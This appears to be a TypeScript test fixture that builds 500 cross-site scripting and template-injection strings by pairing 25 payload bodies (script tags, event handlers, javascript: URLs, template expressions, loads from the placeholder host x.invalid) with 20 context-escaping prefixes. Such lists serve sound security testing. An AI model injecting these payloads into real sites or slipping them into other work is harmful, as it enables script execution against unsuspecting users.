/** Texts that run where they are taken for HTML, an attribute, an address, a script, a style or a template; each would set `pwned`. */
const bodies = [
  '<script>pwned=1</script>',
  '<ScRiPt>pwned=1</sCrIpT>',
  '<script src=//x.invalid/p.js></script>',
  '<img src=x onerror=pwned=1>',
  '<svg onload=pwned=1>',
  '<svg><script>pwned=1</script></svg>',
  '<body onload=pwned=1>',
  '<iframe srcdoc="<script>parent.pwned=1</script>">',
  '<iframe src=javascript:parent.pwned=1>',
  '<a href=javascript:pwned=1>点</a>',
  '<details open ontoggle=pwned=1>',
  '<input autofocus onfocus=pwned=1>',
  '<video><source onerror=pwned=1></video>',
  '<math><mi href=javascript:pwned=1>x',
  '<style>@import "//x.invalid/p.css"</style>',
  '<link rel=stylesheet href=//x.invalid/p.css>',
  '<meta http-equiv=refresh content=0;url=//x.invalid>',
  '<base href=//x.invalid/>',
  '<object data=javascript:pwned=1>',
  '<form action=javascript:pwned=1><button>x',
  'javascript:pwned=1',
  '{{constructor.constructor("pwned=1")()}}',
  '${pwned=1}',
  '&lt;script&gt;pwned=1&lt;/script&gt;',
  '<audio src=x onerror=pwned=1>',
] as const;

/** Ways out of what the text may be in. */
const surroundings: readonly ((body: string) => string)[] = [
  (body) => body,
  (body) => `">${body}`,
  (body) => `'>${body}`,
  (body) => `\`>${body}`,
  (body) => `--><!-- -->${body}`,
  (body) => `</p>${body}`,
  (body) => `</title>${body}`,
  (body) => `</textarea>${body}`,
  (body) => `</script>${body}`,
  (body) => `</style>${body}`,
  (body) => `]]>${body}`,
  (body) => `\\">${body}`,
  (body) => `';${body}//`,
  (body) => `*/${body}/*`,
  (body) => `" ${body} x="`,
  (body) => `＜${body}`,
  (body) => `\u202e${body}`,
  (body) => `行\u2028${body}`,
  (body) => `%3C${body}`,
  (body) => `<!--${body}`,
];

/** 500 of them, none longer than 80 units, the shortest text field that pages show. */
export const injectionPayloads: readonly string[] = surroundings.flatMap((surround) =>
  bodies.map((body) => surround(body)),
);
